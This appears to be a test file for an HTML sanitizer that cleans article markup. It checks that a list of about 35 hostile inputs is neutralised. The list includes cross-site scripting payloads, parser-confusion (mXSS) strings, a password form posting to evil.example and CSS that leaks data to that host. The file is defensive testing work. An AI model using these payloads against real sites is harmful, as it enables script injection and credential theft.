import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parseFragment, defaultTreeAdapter as tree, type DefaultTreeAdapterMap } from 'parse5';
import { cpuMsOf } from '../../../test/harness/cpu-time.ts';
import { articleOf } from './article.ts';

const PAGE = 'https://news.example/n/a/i/b';
const made = (html: string): string => articleOf(html, PAGE).html;

/** An author may try this, or may be made to paste it. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x" onload=alert(1)>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" &#106;ava\tscript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="vbscript:x">a</a><a href="//evil.example">b</a><a href="/\\evil.example">c</a>',
  '<a href="https://ok.example/" target="_top" ping="https://evil.example/" download>a</a>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<title><img title="</title><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><script>alert(1)</script>">',
  '<template shadowrootmode="open"><script>alert(1)</script></template>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x><applet code=x>',
  '<form action="https://evil.example/"><input name=password type=password autofocus><button>go</button></form>',
  '<style>body{display:none}@import url(https://evil.example/x.css)</style>',
  '<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/><meta http-equiv=refresh content=0>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/leak)">over</div>',
  '<p style="background-image:url(https://evil.example/leak);color:red;font-size:900px">styled</p>',
  '<div id="email" class="brand sign-up" name="email">names of ours</div>',
  '<img src="https://evil.example/pixel.gif" width=1 height=1><img src="http://evil.example/plain.png">',
  '<video src=https://evil.example/v autoplay></video><audio src=x></audio><input type=image src=x>',
  '</article></main></body><main class="article"><h1>Ours</h1>',
  '<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]><?php x ?>',
  '<details open ontoggle=alert(1)><summary>s</summary></details><marquee onstart=alert(1)>m</marquee>',
  '<dialog open>d</dialog><div popover id=x>p</div><button popovertarget=x>b</button>',
  '<table background="https://evil.example/bg"><tr><td background="https://evil.example/bg">c</table>',
  '<p contenteditable autofocus tabindex=1 accesskey=x onfocus=alert(1)>e</p>',
  '<img src="https://ok.example/a.png" usemap="#m"><map name=m><area href="javascript:alert(1)"></map>',
  '\u0000<scr\u0000ipt>alert(1)</script><img/src="https://ok.example/"/onerror=alert(1)>',
];
// biome-ignore format: a list of words
const ATTRIBUTES = new Set([
  'href', 'rel', 'src', 'alt', 'width', 'height', 'loading', 'id', 'lang', 'dir', 'align', 'role', 'colspan', 'rowspan',
  'scope', 'start', 'type', 'reversed', 'value', 'datetime', 'title', 'open',
]);
const TAGS =
  /^(?:h[2-6]|p|div|blockquote|pre|hr|br|wbr|[uod]l|li|d[td]|table|caption|t(?:head|body|foot|[rhd])|figure|figcaption|img|a|span|b|strong|i|em|u|s|del|ins|mark|small|su[bp]|code|kbd|samp|var|abbr|cite|q|time|bd[io]|details|summary)$/;

/** Every element as a browser reads it. */
function* elementsOf(parent: DefaultTreeAdapterMap['parentNode']): Generator<DefaultTreeAdapterMap['element']> {
  for (const node of parent.childNodes) {
    if (!tree.isElementNode(node)) continue;
    yield node;
    yield* elementsOf(node);
  }
}

for (const written of HOSTILE) {
  test(`nothing runs, loads, posts or is styled: ${JSON.stringify(written).slice(0, 80)}`, () => {
    for (const html of [written, `<table><tr><td>${written}`, `<p>${written}</p>`]) {
      for (const { tagName, attrs } of elementsOf(parseFragment(made(html)))) {
        assert.match(tagName, TAGS, made(html));
        for (const { name, value } of attrs) {
          assert.ok(ATTRIBUTES.has(name), `${name} in ${made(html)}`);
          if (name === 'href') assert.match(value, /^(?:https?:|mailto:|tel:)/);
          if (name === 'src') assert.match(value, /^https:/);
          if (name === 'id') assert.match(value, /^i-/);
        }
      }
    }
  });
}

test('a browser reads an article as it was meant: what is made of it once more is the same', () => {
  for (const written of HOSTILE) assert.equal(made(made(written)).replaceAll('i-i-', 'i-'), made(written));
});

test('text, structure, links and pictures stay', () => {
  const rows: [written: string, shown: string][] = [
    ['<h1 style="color:red">A</h1><h2>B</h2>', '<h2>A</h2><h3>B</h3>'],
    ['<h2>A</h2><h3>B</h3>', '<h2>A</h2><h3>B</h3>'],
    ['<p align=center>a</p><center>b</center>', '<p align="center">a</p><div align="center">b</div>'],
    ['<p style="text-align: Right;color:#fff">a</p>', '<p align="right">a</p>'],
    ['<a href="#note">1</a><a name="note">n</a>', `<a href="${PAGE}#i-note">1</a><a id="i-note">n</a>`],
    ['<a href="https://a.example/?a=1&b=2">a</a>', '<a href="https://a.example/?a=1&amp;b=2" rel="noopener">a</a>'],
    [
      '<a href="mailto:a@b.example">a</a><a href="/x">b</a>',
      '<a href="mailto:a@b.example" rel="noopener">a</a><a>b</a>',
    ],
    [
      '<img src="https://a.example/a.png" width="1200" height="300">',
      '<img src="https://a.example/a.png" alt="" loading="lazy" width="1200" height="300" data-wide />',
    ],
    [
      '<img src="https://a.example/a.png" width="519" data-wide>',
      '<img src="https://a.example/a.png" alt="" loading="lazy" width="519" />',
    ],
    ['<table role=table border=0><tr><td>a', '<table><tr><td>a</td></tr></table>'],
    ['<table border=0><tr><td colspan=2>a', '<table role="presentation"><tr><td colspan="2">a</td></tr></table>'],
    [
      '<table role="none"><tr><td width="48.5%" style="width:9px">a<td width="40" height="9" bgcolor="red"></table>',
      '<table role="presentation"><tr><td width="48.5%">a</td><td></td></tr></table>',
    ],
    ['<title>t</title><p>a<font color=red>b</font></p><o:p>c</o:p>', '<p>ab</p>c'],
    ['<!--[if mso]><p>Outlook</p><![endif]--><p>a</p>', '<p>a</p>'],
    ['<div style="display:none;max-height:0">preview<img src="https://a.example/a.png"></div><p>a</p>', '<p>a</p>'],
    [
      '<details open name=x ontoggle="x()"><summary class=x>More</summary><p>a</p></details><details>b',
      '<details open><summary>More</summary><p>a</p></details><details>b</details>',
    ],
    ['<p hidden>a</p><span style="mso-hide:all">b</span>c', 'c'],
  ];
  for (const [written, shown] of rows) assert.equal(made(written), shown);
});

test('a link that its author drew as a button is marked as one, and no other is', () => {
  const box = 'display:inline-block;padding:12px 24px;background-color:#18181b';
  const isMarked = (style: string, more = ''): boolean =>
    made(`<a href="https://a.example/" style="${style}" ${more}>a</a>`).includes(' data-button>');
  for (const style of [box, box.replaceAll(':', ' : ').toUpperCase(), box.replace('-color', ''), `color:#fff;${box};`])
    assert.ok(isMarked(style), style);
  const others = [
    '',
    box.replace('inline-block', 'block'),
    box.replace('12px 24px', '0'),
    box.replace('#18181b', 'transparent'),
    box.replace('background-color', 'x-background-color'),
  ];
  for (const style of others) assert.ok(!isMarked(style, 'data-button="1" class="button"'), style);
  assert.equal(made(`<a href="javascript:alert(1)" style="${box}" data-button>a</a>`), '<a>a</a>');
});

test('how long a text takes to read is told by its words, and by its signs where there are no spaces', () => {
  const rows: [written: string, minutes: number][] = [
    ['', 1],
    ['<p>One word</p>', 1],
    [`<p>${'<b>it\u2019s</b> <i title="a b c d">so</i> '.repeat(360)}</p><style>${'a b '.repeat(5_000)}</style>`, 3],
    [`<p>${'\u6c34\u8eca'.repeat(1_000)}</p>`, 4],
    [`<p>${'\u6c34\u8eca\u5c0f\u5c4b word '.repeat(250)}</p>`, 3],
  ];
  for (const [written, minutes] of rows) assert.equal(articleOf(written, PAGE).minutes, minutes, written.slice(0, 30));
});

test('a picture of the server itself stays without https, as on a machine of a developer', () => {
  const written = '<img src="http://localhost:3000/images/a.png"><img src="http://localhost:3001/b.png">';
  const { html } = articleOf(written, 'http://localhost:3000/n/a/i/b');
  assert.equal(html, '<img src="http://localhost:3000/images/a.png" alt="" loading="lazy" />');
});

test('the first picture and the beginning of the text stand for the article', () => {
  const pixel = '<img src="https://a.example/p.gif" width="1">';
  const article = articleOf(
    `${pixel}<p>A &amp; B</p><img src="https://a.example/1.png"><img src="https://a.example/2.png">`,
    PAGE,
  );
  assert.deepEqual([article.image, article.summary], ['https://a.example/1.png', 'A & B']);
  const long = articleOf(`<p>${'word '.repeat(200)}</p>`, PAGE).summary;
  assert.ok(long.length <= 300 && long.endsWith('word…'), long);
});

test('2 MB of anything take less than two seconds, and what is nested too deep is flat', () => {
  for (const one of [
    '<div>',
    '<b>',
    '<',
    'a',
    '&amp;',
    '<img src="https://a.example/b.png">',
    '<a href="#x',
    '<p style="x:',
  ]) {
    const html = one.repeat(Math.ceil((2 * 1024 * 1024) / one.length));
    assert.ok(cpuMsOf(() => made(html), 1) < 2_000, one);
  }
});
